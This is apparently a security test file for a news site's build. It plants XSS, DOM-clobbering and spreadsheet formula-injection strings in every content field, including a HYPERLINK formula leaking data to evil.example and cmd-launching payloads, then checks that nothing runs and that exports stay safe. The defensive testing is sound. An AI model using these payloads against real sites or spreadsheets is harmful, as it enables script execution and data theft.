// Hostile content, built into a real site: script-shaped strings in every field an author writes (titles,
// summary, outlets, cites, actor names and aliases, event titles, places and notes, article and actor
// bodies) and HTML that tries to clobber the page's globals. In Chromium, on every page of that site,
// nothing injected runs, the CSP <meta> comes first in <head> and is in force, and the text shows as
// written; the header search, the search page and "Save for offline" still work on the clobbering article;
// rss.xml parses as XML, events.csv as CSV with no formula cell, events.ics and events.json as themselves.
// Control characters never get that far: the check refuses them, naming the file, field and fix.
import { spawnSync } from 'node:child_process';
import { createHash } from 'node:crypto';
import { readFileSync, readdirSync, rmSync } from 'node:fs';
import { join, relative, resolve, sep } from 'node:path';
import { stripVTControlCharacters } from 'node:util';
import { parse as parseCsv } from 'csv-parse/sync';
import ICAL from 'ical.js';
import type { Browser, BrowserContext, Page } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { routesOf } from '../../src/integrations/offline.ts';
import { EVENTS_CSV_COLUMNS } from '../../src/model/exports.ts';
import { ACTOR, contentTree } from '../fixtures/content-tree.ts';
import { htmlErrors } from './gates.ts';
import { serveSite } from '../../scripts/lib/serve.ts';
import { launchChromium } from './site.ts';

const root = resolve(import.meta.dirname, '../..');

/** Strings that once ran script, switched the CSP off or blanked the page, and friends. N marks which one ran. */
const SCRIPT_END = (n: number) => `T</script><script>window.__pwn=${n}</script>`;
const HOSTILE = {
	scriptEnd: SCRIPT_END(1),
	harmlessScriptTag: 'Explaining the </script> tag',
	comment: 'Why <!--<script> tags…',
	attribute: `"><img src=x onerror="window.__pwn=2">`,
	singleQuote: `' onmouseover='window.__pwn=3' x='`,
	svg: '<svg onload=window.__pwn=4>',
	cdata: ']]></title><script>window.__pwn=5</script><title>',
	entities: '&amp; &lt;b&gt; &#x3C;script&#x3E;',
	separators: 'Line\u2028separator\u2029paragraph',
	template: '${window.__pwn=6} {{constructor.constructor("window.__pwn=7")()}}',
};
/** Event titles a spreadsheet would run as formulas. */
const FORMULAS = ['=HYPERLINK("http://evil.example/?leak="&A1,"Click")', '+1+cmd|\' /C calc\'!A0', '-2+3+cmd|\' /C calc\'!A0', '@SUM(1+1)*cmd|\' /C calc\'!A0', '\t=1+1'];

const yaml = (value: string) => JSON.stringify(value); // JSON strings are YAML double-quoted strings.

const EVIL_ACTOR = {
	en: `Evil</script><script>window.__pwn=8</script>`,
	ru: `Злой</title><script>window.__pwn=9</script>`,
	aliasEn: `Evilcorp"><img src=x onerror=window.__pwn=10>`,
	aliasRu: 'Злыдни',
};

const CLOBBER_SLUG = '2025-09-16-clobber';
const ARTICLES = {
	'2025-09-15-script-end': { title: HOSTILE.scriptEnd, summary: HOSTILE.attribute },
	'2025-09-17-script-tag': { title: HOSTILE.harmlessScriptTag, summary: HOSTILE.separators },
	'2025-09-18-comment': { title: HOSTILE.comment, summary: HOSTILE.cdata },
	[CLOBBER_SLUG]: { title: 'Хунта и клоббер', summary: HOSTILE.entities },
} as const;

function article(slug: string, title: string, summary: string, n: number): string {
	const date = slug.slice(0, 10);
	return `---
title: ${yaml(title)}
date: ${date}
lang: ru
summary: ${yaml(summary)}
source: { outlet: ${yaml(HOSTILE.singleQuote)}, url: "https://example.org/${n}" }
cites:
  - { outlet: ${yaml(HOSTILE.svg)}, via: ${yaml(HOSTILE.template)} }
actors: [mali-junta, russia, evil-actor]
events:
  - id: event-${n}
    date: "2025-09"
    title: ${yaml(n === 0 ? HOSTILE.scriptEnd : FORMULAS[n - 1])}
    kind: statement
    actors: [evil-actor, mali-junta]
    place: ${yaml(HOSTILE.cdata)}
    note: ${yaml(HOSTILE.comment)}
  - id: other-${n}
    date: "2025-0${(n % 8) + 1}"
    title: ${yaml(FORMULAS[(n + 3) % FORMULAS.length])}
    kind: other
    actors: [russia]
relations:
  - { from: evil-actor, to: mali-junta, kind: partner, since: "2024" }
---
Хунта в Мали и Москва; Злыдни тоже.

## Search page q

<img name="querySelector" src="/favicon.svg" alt="">
<img name="getElementById" src="/favicon.svg" alt="">
<img name="body" src="/favicon.svg" alt="">
<a id="search-page-q">clobbers the search page's box</a> <a id="site-search-q">and the header's</a>
<form name="forms"><input name="serviceWorker"></form>
<script>window.__pwn=11</script>
<img src="x" onerror="window.__pwn=12" alt="">
<a href="javascript:window.__pwn=13">link</a>

Текст со сноской[^1] и [ссылкой на раздел](#search-page-q).

[^1]: Сноска.
`;
}

let work: string;
let site: string;
let base: string;
let close: () => Promise<void>;
let browser: Browser;
let context: BrowserContext;
const text = (file: string) => readFileSync(join(site, file), 'utf8');

function runNode(script: string, contentDir: string, extraEnv: Record<string, string> = {}) {
	return spawnSync(process.execPath, [script, ...(script.endsWith('check.ts') ? [contentDir] : [])], {
		cwd: root,
		encoding: 'utf8',
		env: { ...process.env, CONTENT_DIR: contentDir, ...extraEnv },
	});
}

beforeAll(async () => {
	const tree = contentTree();
	work = tree.root;
	tree.write(
		'actors/evil-actor.md',
		ACTOR(
			yaml(EVIL_ACTOR.en),
			yaml(EVIL_ACTOR.ru),
			'russia',
			`parent: russia\naliases: { en: [${yaml(EVIL_ACTOR.aliasEn)}], ru: [${yaml(EVIL_ACTOR.aliasRu)}] }\n`,
		).replace(/\n[^\n]*\.\n$/, `\n${HOSTILE.scriptEnd} <img name="querySelector" src="/favicon.svg" alt=""> <script>window.__pwn=14</script>\n`),
	);
	Object.entries(ARTICLES).forEach(([slug, { title, summary }], n) => tree.write(`articles/${slug}.md`, article(slug, title, summary, n)));
	site = join(work, 'site');
	const build = runNode('scripts/build.ts', tree.content, { DIST_DIR: site, ASTRO_CACHE_DIR: join(work, 'cache') });
	if (build.status !== 0) throw new Error(`The hostile site did not build:\n${build.stdout.slice(-3000)}\n${build.stderr.slice(-3000)}`);
	const server = await serveSite(site);
	base = server.url;
	close = server.close;
	browser = await launchChromium();
	context = await browser.newContext({ serviceWorkers: 'block' });
}, 240_000);

afterAll(async () => {
	await browser?.close();
	await close?.();
	if (work) rmSync(work, { recursive: true, force: true });
});

interface Visit {
	page: Page;
	errors: string[];
}

/** Opens a page, recording console errors and uncaught exceptions; an alert() or similar fails at once. */
async function visit(path: string, ctx = context): Promise<Visit> {
	const page = await ctx.newPage();
	const errors: string[] = [];
	page.on('console', (m) => {
		// The articles' <img src="x" onerror=…> keeps its src (its onerror goes): a 404 for /x is expected.
		if (m.type() === 'error' && !m.location().url.endsWith('/x')) errors.push(m.text());
	});
	page.on('pageerror', (e) => errors.push(e.message));
	page.on('dialog', (d) => {
		errors.push(`dialog: ${d.message()}`);
		void d.dismiss();
	});
	await page.goto(base + path, { waitUntil: 'load' });
	return { page, errors };
}

/** Inline script the page-sweep adds to show the CSP refuses it; the browser's report names its hash. */
const PROBE = 'window.inlineRan = true';
const PROBE_HASH = `sha256-${createHash('sha256').update(PROBE).digest('base64')}`;

const pwned = (page: Page) => page.evaluate(() => (window as unknown as { __pwn?: unknown }).__pwn);

/** Every built HTML page of the hostile site, as routes. */
function routes(): string[] {
	const files = readdirSync(site, { recursive: true, withFileTypes: true })
		.filter((e) => e.isFile())
		.map((e) => relative(site, join(e.parentPath, e.name)).split(sep).join('/'));
	return routesOf(files);
}

describe('hostile strings in every field, built into a site', () => {
	it('every page type exists in the hostile site', () => {
		const all = routes();
		for (const route of ['/', '/articles/', `/articles/${CLOBBER_SLUG}/`, '/actors/', '/actors/evil-actor/', '/timeline/', '/search/', '/404.html']) {
			expect(all).toContain(route);
		}
	});

	it('on every page: nothing injected runs, the CSP <meta> follows only <meta charset>, and it blocks an inline script', async () => {
		const all = routes();
		expect(all.length).toBeGreaterThan(20);
		// A few pages at a time.
		const queue = [...all];
		const sweep = async () => {
			for (let route = queue.shift(); route; route = queue.shift()) await checkPage(route);
		};
		await Promise.all([sweep(), sweep(), sweep()]);
	}, 240_000);

	async function checkPage(route: string) {
		const { page, errors } = await visit(route);
		// Broken images (onerror payloads) fire after load.
		await page.waitForTimeout(50);
		const head = await page.evaluate(() =>
			[...document.head.children].slice(0, 2).map((el) => `${el.tagName.toLowerCase()} ${el.getAttribute('charset') ?? el.getAttribute('http-equiv') ?? ''}`),
		);
		expect(head, route).toEqual(['meta utf-8', 'meta content-security-policy']);
		// An inline script added now is refused, and the browser reports the policy that refused it.
		const csp = await page.evaluate(
			(source) =>
				new Promise<{ ran: boolean; violated: string }>((done) => {
					document.addEventListener('securitypolicyviolation', (e) => done({ ran: 'inlineRan' in window, violated: e.effectiveDirective }), { once: true });
					const script = document.createElement('script');
					script.textContent = source;
					document.head.append(script);
					setTimeout(() => done({ ran: 'inlineRan' in window, violated: '' }), 1000);
				}),
			PROBE,
		);
		expect(csp, route).toEqual({ ran: false, violated: 'script-src-elem' });
		expect(await pwned(page), route).toBeUndefined();
		// The only console error allowed is the report of the probe above (named by its hash): a report of
		// any other inline script would be content that escaped its escaping.
		expect(
			errors.filter((e) => !e.includes(PROBE_HASH)),
			route,
		).toEqual([]);
		await page.close();
	}

	it('the article pages show each hostile title and summary as written, in the page, its title and its JSON-LD', async () => {
		for (const [slug, { title, summary }] of Object.entries(ARTICLES)) {
			const { page } = await visit(`/articles/${slug}/`);
			expect(await page.locator('main h1').first().textContent()).toBe(title);
			expect(await page.title()).toContain(title);
			expect(await page.locator('meta[name="description"]').getAttribute('content')).toBe(summary);
			const ld = JSON.parse((await page.locator('script[type="application/ld+json"]').textContent())!);
			expect(ld.headline).toBe(title);
			expect(ld.description).toBe(summary);
			expect(ld.publisher.name).toBe(HOSTILE.singleQuote);
			expect(await page.getByText(HOSTILE.svg, { exact: false }).count()).toBeGreaterThan(0);
			await page.close();
		}
	});

	it('the actor page shows the hostile names and aliases as written, in the page, the JSON-LD and the relation map', async () => {
		const { page } = await visit('/actors/evil-actor/');
		expect(await page.locator('main h1').first().textContent()).toContain(EVIL_ACTOR.en);
		const ld = JSON.parse((await page.locator('script[type="application/ld+json"]').textContent())!);
		expect(ld.name).toBe(EVIL_ACTOR.en);
		expect(ld.alternateName).toEqual([EVIL_ACTOR.ru, EVIL_ACTOR.aliasEn, EVIL_ACTOR.aliasRu]);
		// SVG text of the relation map: the name as text, not markup.
		const labels = await page.locator('.relation-map svg a[aria-label]').evaluateAll((links) => links.map((a) => a.getAttribute('aria-label')));
		expect(labels).toContain(EVIL_ACTOR.en);
		expect(await page.locator('.relation-map svg script, .relation-map svg img').count()).toBe(0);
		await page.close();
	});

	it('article HTML cannot clobber the page: its ids and names are prefixed, document methods stay methods, in-page links still land', async () => {
		const { page } = await visit(`/articles/${CLOBBER_SLUG}/`);
		const state = await page.evaluate(() => ({
			querySelector: typeof document.querySelector,
			getElementById: typeof document.getElementById,
			body: document.body instanceof HTMLBodyElement,
			pageBox: document.querySelectorAll('#search-page-q').length,
			headerBox: document.querySelectorAll('#site-search-q').length,
			names: [...document.querySelectorAll('.article-body [name]')].map((el) => el.getAttribute('name')),
			headingId: document.querySelector('.article-body h2')?.id,
		}));
		expect(state).toEqual({
			querySelector: 'function',
			getElementById: 'function',
			body: true,
			pageBox: 0,
			headerBox: 1,
			names: ['user-content-querySelector', 'user-content-getElementById', 'user-content-body', 'user-content-serviceWorker'],
			// The article's own <a id="search-page-q"> holds user-content-search-page-q: the heading takes the next slug.
			headingId: 'user-content-search-page-q-1',
		});
		// The link to the heading and the footnote reference lead to elements that exist.
		for (const href of await page.locator('.article-body a[href^="#"]').evaluateAll((links) => links.map((a) => a.getAttribute('href')!))) {
			expect(await page.locator(href).count(), href).toBe(1);
		}
		expect(await page.locator('.article-body a[href^="#"]').count()).toBe(3);
		expect(await page.locator('main a[href^="javascript:"], main form, main script').count()).toBe(0);
		await page.close();
	});

	it('on the clobbering article, the header search gives results as you type', async () => {
		const { page, errors } = await visit(`/articles/${CLOBBER_SLUG}/`);
		await page.focus('#site-search-q');
		await page.keyboard.type('клоббер');
		await page.waitForSelector(`#site-search-results a[href="/articles/${CLOBBER_SLUG}/"]`, { timeout: 20_000 });
		expect(await pwned(page)).toBeUndefined();
		expect(errors).toEqual([]);
		await page.close();
	});

	it('the search page finds the hostile articles and shows their titles as text', async () => {
		// Tall, so the search page renders every result (it fills them in as they scroll into view).
		const tall = await browser.newContext({ serviceWorkers: 'block', viewport: { width: 1280, height: 4000 } });
		const { page, errors } = await visit(`/search/?q=${encodeURIComponent('Хунта')}`, tall);
		await page.waitForSelector(`#search-page-results a[href="/articles/${CLOBBER_SLUG}/"]`, { timeout: 20_000 });
		await page.waitForFunction(() => !document.querySelector('#search-page-results .search-result-placeholder'));
		const titles = await page.locator('#search-page-results .search-result-title a').allTextContents();
		expect(titles).toEqual(expect.arrayContaining([HOSTILE.scriptEnd, HOSTILE.comment]));
		expect(await pwned(page)).toBeUndefined();
		expect(errors).toEqual([]);
		await tall.close();
	});

	it('on the clobbering article, the service worker registers and "Save for offline" saves every page', async () => {
		const ctx = await browser.newContext();
		const { page, errors } = await visit(`/articles/${CLOBBER_SLUG}/`, ctx);
		await page.evaluate(() => navigator.serviceWorker.ready.then(() => undefined));
		const save = page.locator('[data-offline-save]');
		await save.locator('button').click();
		await expect.poll(() => save.locator('[role="status"]').textContent(), { timeout: 30_000 }).toMatch(/^Done: all \d+ pages/);
		expect(await pwned(page)).toBeUndefined();
		expect(errors).toEqual([]);
		await ctx.close();
	});
});

describe('markup of the hostile site', () => {
	it('every page passes html-validate: no hostile string broke an element open', async () => {
		const errors: string[] = [];
		for (const route of routes()) {
			const file = route.endsWith('/') ? `${route}index.html` : route;
			errors.push(...(await htmlErrors(text(file.slice(1)), file)));
		}
		// <img name> is obsolete HTML, but it is exactly what the bodies use to try clobbering.
		expect(errors.filter((e) => !/no-deprecated-attr: Attribute "name" is deprecated on <img> element/.test(e))).toEqual([]);
	});
});

describe('feeds and exports of the hostile site parse, and say what the content says', () => {
	it('rss.xml is well-formed XML (the browser’s XML parser) with every title as written', async () => {
		const { page } = await visit('/');
		const feed = await page.evaluate(async () => {
			const xml = await (await fetch('/rss.xml')).text();
			const doc = new DOMParser().parseFromString(xml, 'application/xml');
			return {
				error: doc.querySelector('parsererror')?.textContent ?? null,
				titles: [...doc.querySelectorAll('item > title')].map((t) => t.textContent),
				descriptions: [...doc.querySelectorAll('item > description')].map((t) => t.textContent),
			};
		});
		expect(feed.error).toBeNull();
		// The fixture tree's own article is in the feed too.
		expect(feed.titles.sort()).toEqual([...Object.values(ARTICLES).map((a) => a.title), 'Хунта и Москва'].sort());
		expect(feed.descriptions).toContain(HOSTILE.cdata);
		await page.close();
	});

	it('events.csv reads as RFC 4180 CSV and no cell starts like a formula, yet the text is all there', () => {
		const rows: string[][] = parseCsv(text('data/events.csv'), { relax_quotes: false });
		expect(rows[0]).toEqual([...EVENTS_CSV_COLUMNS]);
		const cells = rows.slice(1).flat();
		const formulaLike = cells.filter((c) => /^[=+\-@\t\r]/.test(c) && !/^-\d+(?:[.:/-]\d+)*$/.test(c));
		expect(formulaLike).toEqual([]);
		const titles = rows.slice(1).map((r) => r[EVENTS_CSV_COLUMNS.indexOf('title')]);
		for (const formula of FORMULAS) expect(titles).toContain(`'${formula}`);
		expect(titles).toContain(HOSTILE.scriptEnd);
		expect(rows.slice(1).map((r) => r[EVENTS_CSV_COLUMNS.indexOf('place')])).toContain(HOSTILE.cdata);
	});

	it('events.ics parses (ical.js) with the hostile titles and places as written', () => {
		const calendar = new ICAL.Component(ICAL.parse(text('data/events.ics')));
		const events = calendar.getAllSubcomponents('vevent').map((e) => new ICAL.Event(e));
		// A date known only to the month is a one-day entry whose summary starts with how vague it is: "[Sep 2025] …".
		const titles = events.map((e) => e.summary.replace(/^\[[^\]]*\] /, ''));
		expect(titles).toEqual(expect.arrayContaining([HOSTILE.scriptEnd, ...FORMULAS]));
		expect(events.map((e) => e.location)).toContain(HOSTILE.cdata);
	});

	it('events.json and actors.json parse with the strings as written', () => {
		const events: { title: string; note: string | null }[] = JSON.parse(text('data/events.json'));
		expect(events.map((e) => e.title)).toContain(HOSTILE.scriptEnd);
		expect(events.map((e) => e.note)).toContain(HOSTILE.comment);
		expect(text('data/actors.json')).toContain(JSON.stringify(EVIL_ACTOR.en).slice(1, -1));
	});
});

describe('control characters are refused by the check, before anything is built', () => {
	const cases: [string, string, string][] = [
		['title', 'T\\x01itle', 'U+0001'],
		['summary', 'Nul\\0here', 'U+0000'],
		['events[0].title', 'Noncharacter\\uFFFE', 'U+FFFE'],
		['events[0].place', 'Lone \\uD800 surrogate', 'U+D800'],
	];
	let out: string;
	let status: number | null;
	let buildStatus: number | null;
	let buildOut: string;

	beforeAll(() => {
		const tree = contentTree();
		tree.write(
			'articles/2025-09-15-control.md',
			`---
title: "${cases[0][1]}"
date: 2025-09-15
lang: en
summary: "${cases[1][1]}"
actors: [mali-junta, russia]
events:
  - date: "2025-09"
    title: "${cases[2][1]}"
    kind: other
    actors: [russia]
    place: "${cases[3][1]}"
---
Text.
`,
		);
		tree.write('actors/belarus.md', ACTOR('"Bela\\x1Brus"', 'Беларусь', 'belarus'));
		const check = runNode('scripts/check.ts', tree.content);
		out = stripVTControlCharacters(check.stdout + check.stderr);
		status = check.status;
		const build = runNode('scripts/build.ts', tree.content, { DIST_DIR: join(tree.root, 'site'), ASTRO_CACHE_DIR: join(tree.root, 'cache') });
		buildStatus = build.status;
		buildOut = stripVTControlCharacters(build.stdout + build.stderr);
		rmSync(tree.root, { recursive: true, force: true });
	});

	it('the check fails, and the build stops before Astro runs', () => {
		expect(status).toBe(1);
		expect(buildStatus).not.toBe(0);
		expect(buildOut).toMatch(/Content check failed/);
	});

	for (const [field, , code] of cases) {
		it(`${field}: ${code} is named with file, line, field, found, expected and fix`, () => {
			const block = out.split(/\n(?=✖|⚠)/).find((b) => b.includes(`2025-09-15-control.md:`) && new RegExp(`\\s${field.replace(/[[\].]/g, '\\$&')}\\n`).test(b));
			expect(block, out).toBeDefined();
			expect(block).toMatch(/content\/articles\/2025-09-15-control\.md:\d+/);
			expect(block).toMatch(/found: /);
			expect(block).toContain(`expected: text without control characters`);
			expect(block).toMatch(new RegExp(`fix: +remove the ${code.replace('+', '\\+')} character`));
		});
	}

	it('an actor name with ESC (U+001B) is refused the same way', () => {
		expect(out).toMatch(/content\/actors\/belarus\.md:2 +name\.en\n +found: +"Bela\\u001brus"\n +expected: text without control characters[^\n]*\n +fix: +remove the U\+001B character after "Bela"/);
	});
});
